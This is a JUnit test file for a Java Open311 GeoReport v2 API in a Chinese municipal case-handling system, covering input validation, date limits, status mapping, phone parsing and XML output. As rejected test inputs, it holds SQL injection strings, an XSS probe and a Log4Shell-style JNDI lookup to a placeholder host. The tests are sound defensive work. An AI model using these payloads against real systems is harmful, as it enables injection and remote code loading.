package org.linli.open311;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.linli.cases.Case;
import org.linli.cases.CaseStatus;
import org.linli.cases.Closure;
import org.linli.cases.Resolution;
import org.linli.categories.Categories;
import org.linli.core.ValidationFailed;
import org.linli.json.Json;
import org.linli.testing.CaseWorld;

/** The pure parts of GeoReport v2: argument rules and limits, the status mapping, the catalogue, the XML. */
class Open311Test {
    private static final Instant NOW = Instant.parse("2026-11-23T02:00:00Z");

    @Test
    void requestIdsOverrideAllOtherArguments() {
        String a = "case_0000000000000000000000000A";
        String b = "case_0000000000000000000000000B";
        RequestFilter f = RequestFilter.parse(Map.of("service_request_id", a + ", " + b + "," + a, "status", "bogus",
                "start_date", "not a date"), NOW);
        assertTrue(f.byIds());
        assertEquals(List.of(a, b), f.ids());
        assertThrows(ValidationFailed.class, () -> RequestFilter.parse(Map.of("service_request_id",
                String.join(",", java.util.stream.IntStream.range(0, 1001).mapToObj(i -> String.format("case_%026d", i)).toList())), NOW));
    }

    @Test
    void createRequestFormsHoldTextAPersonTyped() {
        assertEquals(List.of(), Open311Form.textProblems(Map.of("description", List.of("漏水\n三楼 😀 مرحبا"), "first_name", List.of("芳"),
                "email", List.of("wang@example.com"), "phone", List.of(""))));
        for (Map<String, List<String>> bad : List.of(Map.of("description", List.of("a\u0000b")), Map.of("first_name", List.of("a\u001bb")),
                Map.of("description", List.of("漏\uFFFD水")), Map.of("last_name", List.of("a\u202Eb")), Map.of("service_code", List.of("a\nb")),
                Map.of("first_name", List.of("x".repeat(51))), Map.of("email", List.of("' OR '1'='1")), Map.of("email", List.of("a@b")))) {
            List<org.linli.core.FieldError> problems = Open311Form.textProblems(bad);
            assertEquals(1, problems.size(), bad.toString());
            assertEquals(bad.keySet().iterator().next(), problems.get(0).field());
        }
    }

    @Test
    void requestIdsThatAreNotCaseIdsAreRefusedNotLookedUp() {
        for (String bad : List.of("' OR '1'='1", "rpt_0000000000000000000000000A", "-1", "x".repeat(3000), "case_0000000000000000000000000A,1e400")) {
            ValidationFailed e = assertThrows(ValidationFailed.class, () -> RequestFilter.parse(Map.of("service_request_id", bad), NOW), bad);
            assertEquals("service_request_id", e.fields().get(0).field());
        }
    }

    @Test
    void datesDefaultToTheMostRecent90DaysAndMayNotSpanMore() {
        RequestFilter none = RequestFilter.parse(Map.of(), NOW);
        assertEquals(NOW, none.end());
        assertEquals(NOW.minus(Duration.ofDays(90)), none.start());
        RequestFilter start = RequestFilter.parse(Map.of("start_date", "2026-10-01T00:00:00+08:00"), NOW);
        assertEquals(Instant.parse("2026-09-30T16:00:00Z").plus(Duration.ofDays(90)), start.end());
        RequestFilter end = RequestFilter.parse(Map.of("end_date", "2010-01-01T00:00:00Z"), NOW);
        assertEquals(Instant.parse("2010-01-01T00:00:00Z").minus(Duration.ofDays(90)), end.start());
        RequestFilter exactly = RequestFilter.parse(Map.of("start_date", "2026-01-01T00:00:00Z", "end_date", "2026-04-01T00:00:00Z"), NOW);
        assertEquals(Duration.ofDays(90), Duration.between(exactly.start(), exactly.end()));
        ValidationFailed over = assertThrows(ValidationFailed.class,
                () -> RequestFilter.parse(Map.of("start_date", "2026-01-01T00:00:00Z", "end_date", "2026-04-01T00:00:01Z"), NOW));
        assertTrue(over.fields().get(0).message().contains("90 days"));
        assertThrows(ValidationFailed.class, () -> RequestFilter.parse(Map.of("start_date", "2026-01-01T00:00:00"), NOW), "no time zone");
        assertThrows(ValidationFailed.class, () -> RequestFilter.parse(Map.of("start_date", "2026-02-01T00:00:00Z",
                "end_date", "2026-01-01T00:00:00Z"), NOW));
        assertEquals(1000, RequestFilter.LIMIT);
    }

    /** Issue 13 defect 4: java.time's extreme years parsed, then broke the query (an internal error with a stack trace). */
    @Test
    void datesBeyondAnyPlausibleRangeAreFieldErrors() {
        for (String name : List.of("start_date", "end_date")) {
            for (String bad : List.of("-999999999-01-01T00:00:00Z", "+999999999-12-31T23:00:00Z", "1969-01-01T00:00:00Z")) {
                ValidationFailed e = assertThrows(ValidationFailed.class, () -> RequestFilter.parse(Map.of(name, bad), NOW), name + "=" + bad);
                assertEquals(name, e.fields().get(0).field(), bad);
            }
        }
    }

    @Test
    void statusesAndCodesMayBeCommaDelimitedAndEmptyIsAbsent() {
        RequestFilter f = RequestFilter.parse(Map.of("status", "open,closed", "service_code", "noise, leak", "start_date", " "), NOW);
        assertEquals(Set.of("open", "closed"), f.statuses());
        assertEquals(Set.of("noise", "leak"), f.serviceCodes());
        assertEquals(NOW, f.end());
        ValidationFailed bad = assertThrows(ValidationFailed.class, () -> RequestFilter.parse(Map.of("status", "open,pending"), NOW));
        assertEquals("status", bad.fields().get(0).field());
    }

    @Test
    void linliStatesMapOnOpenAndClosed() {
        CaseWorld w = new CaseWorld();
        for (CaseStatus s : CaseStatus.values()) {
            Case c = w.fixture(s);
            assertEquals(s.open() ? "open" : "closed", Open311Status.status(c), s.name());
            // Words a resident reads, not Linli's internal state names.
            assertTrue(!Open311Status.notes(c).contains(s.name()) && !Open311Status.notes(c).isBlank(), Open311Status.notes(c));
        }
        Case closed = w.fixture(CaseStatus.CLOSED).toBuilder().closure(Closure.SATISFIED)
                .resolution(new Resolution("杂物已清理", List.of(), "usr_w", NOW)).build();
        assertEquals("已办结：群众满意。处置结果：杂物已清理", Open311Status.notes(closed));
        assertTrue(Open311Status.notes(w.fixture(CaseStatus.MERGED)).contains("case_ZZZ"));
        Case rejected = w.fixture(CaseStatus.REJECTED);
        assertEquals("未予受理：属物业管理范围，请联系物业", Open311Status.notes(rejected, "属物业管理范围，请联系物业"));
        assertEquals("不属于受理范围，未予受理", Open311Status.notes(rejected, null));
        // A result recorded before a rework is not the answer while the work is redone.
        Case rework = w.fixture(CaseStatus.REWORK).toBuilder().resolution(new Resolution("已清理", List.of(), "usr_w", NOW)).build();
        assertEquals("正在重新处置", Open311Status.notes(rework));
    }

    @Test
    void phonesAreFreeFormNeverRefused() {
        Map<String, String> given = new java.util.LinkedHashMap<>();
        given.put("+8613812341234", "13812341234");
        given.put("+86 138 1234 1234", "13812341234");
        given.put("138-1234-1234", "13812341234");
        given.put("0086 138.1234.1234", "13812341234");
        given.put("8613812341234", "13812341234");
        given.put("(0351) 1234567", "(0351) 1234567");
        given.put("0351-1234567 ext 12", "0351-1234567 ext 12");
        given.put("+1 415 555 0100", "+1 415 555 0100");
        given.forEach((in, out) -> {
            Open311Form.Request r = Open311Form.parse(form("phone", in, "lat", "37.8468", "long", "113.5731"));
            assertEquals(out, r.phone(), in);
        });
        assertEquals(null, Open311Form.parse(form("phone", " ", "lat", "37.8468", "long", "113.5731")).phone());
        assertEquals(org.linli.core.format.Phone.MAX_GIVEN,
                Open311Form.parse(form("phone", "0351 1234567" + " ".repeat(40) + "转 8", "lat", "37.8468", "long", "113.5731")).phone().length());
        // What is no phone in any writing is not contact data: refused like any bad field.
        for (String junk : List.of("<script>alert(1)</script>", "1; DROP TABLE users", "999", "1e400", "😀", "${jndi:ldap://evil/a}")) {
            ValidationFailed bad = assertThrows(ValidationFailed.class, () -> Open311Form.parse(form("phone", junk, "lat", "37.8", "long", "113.5")), junk);
            assertEquals("phone", bad.fields().get(0).field());
        }
    }

    @Test
    void anAddressStringAloneIsALocationAndUnknownAttributesAreIgnored() {
        Open311Form.Request r = Open311Form.parse(form("address_string", "西城街道柳园社区 3号楼", "attribute[client_ref]", "FMS-991",
                "attribute[WARD]", "x"));
        assertTrue(r.addressOnly());
        assertEquals("西城街道柳园社区 3号楼", r.addressString());
        var draft = r.draft(Categories.fromClasspath().find("noise").orElseThrow(), null, "DEMO-W");
        assertEquals("DEMO-W", draft.placeCode());
        assertTrue(draft.description().endsWith("地址：西城街道柳园社区 3号楼"), draft.description());
        ValidationFailed none = assertThrows(ValidationFailed.class, () -> Open311Form.parse(form("description", "x")));
        assertEquals("lat", none.fields().get(0).field());
        // A known attribute with a value outside its list is still an error.
        assertThrows(ValidationFailed.class, () -> Open311Form.parse(form("lat", "37.8", "long", "113.5", "attribute[anonymous]", "maybe")));
    }

    @Test
    void singleValuedParametersSentTwiceAreRefused() {
        Map<String, List<String>> q = Open311Form.query("service_code=a&service_code=b&api_key=k1&api_key=k2&status=open,closed&x%5B%5D=1&x%5B%5D=2");
        assertEquals(List.of("service_code", "api_key"), Open311Form.repeated(q).stream().map(e -> e.field()).toList());
        Map<String, List<String>> f = new java.util.LinkedHashMap<>(form("lat", "37.8468", "long", "113.5731"));
        f.put("service_code", List.of("noise", "leak"));
        ValidationFailed bad = assertThrows(ValidationFailed.class, () -> Open311Form.parse(f));
        assertEquals("service_code", bad.fields().get(0).field());
        assertEquals(List.of("a b"), Open311Form.query("q=a+b").get("q"));
    }

    @Test
    void aResentRequestHasTheSameCanonicalFormWhateverTheOrderAndTheKeyAndBlanks() {
        Map<String, List<String>> a = new java.util.LinkedHashMap<>();
        a.put("api_key", List.of("k1"));
        a.put("service_code", List.of("noise"));
        a.put("description", List.of(" 噪音 "));
        a.put("email", List.of(""));
        Map<String, List<String>> b = new java.util.LinkedHashMap<>();
        b.put("description", List.of("噪音"));
        b.put("service_code", List.of("noise"));
        assertEquals(Open311Form.canonical(a), Open311Form.canonical(b));
        b.put("lat", List.of("37.8"));
        assertTrue(!Open311Form.canonical(a).equals(Open311Form.canonical(b)));
    }

    @Test
    void theDiscoveryEndpointIsTheOneTheClientReached() {
        assertEquals("https://api.example.cn/open311/v2",
                org.linli.views.open311.Open311Views.endpoint(null, "api.example.cn", "443", "/open311/discovery.json", "/open311/v2"));
        assertEquals("http://127.0.0.1:3000/open311/v2",
                org.linli.views.open311.Open311Views.endpoint("http", "127.0.0.1:3000", "3000", "/open311/discovery.xml", "/open311/v2"));
        assertEquals("https://abc.execute-api.cn-north-1.amazonaws.com.cn:8443/prod/open311/v2",
                org.linli.views.open311.Open311Views.endpoint("https", "abc.execute-api.cn-north-1.amazonaws.com.cn", "8443",
                        "/prod/open311/discovery.json", "/open311/v2"));
    }

    private static Map<String, List<String>> form(String... pairs) {
        Map<String, List<String>> f = new java.util.LinkedHashMap<>();
        for (int i = 0; i < pairs.length; i += 2) f.put(pairs[i], List.of(pairs[i + 1]));
        return f;
    }

    @Test
    void theCatalogueComesFromTheCategories() {
        Open311Catalog catalog = new Open311Catalog(Categories.fromClasspath());
        var services = catalog.services();
        assertEquals(Categories.fromClasspath().all().size(), services.size());
        var noise = services.findParents("service_code").stream().filter(s -> s.path("service_code").asText().equals("noise")).findFirst().orElseThrow();
        assertEquals("噪音扰民", noise.path("service_name").asText());
        assertEquals("realtime", noise.path("type").asText());
        assertTrue(noise.path("description").asText().contains("受理时限 2 小时，处置时限 2 天"), noise.toString());
        assertEquals("15 分钟", Open311Catalog.chinese(Duration.ofMinutes(15)));
    }

    @Test
    void xmlFollowsTheSparkConventionAndEscapes() {
        var array = Json.array();
        array.addObject().put("code", 400).put("description", "a < b & \"c\"").putNull("x");
        assertEquals("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<errors><error><code>400</code>"
                + "<description>a &lt; b &amp; &quot;c&quot;</description><x></x></error></errors>\n", SparkXml.write("errors", array));
    }
}
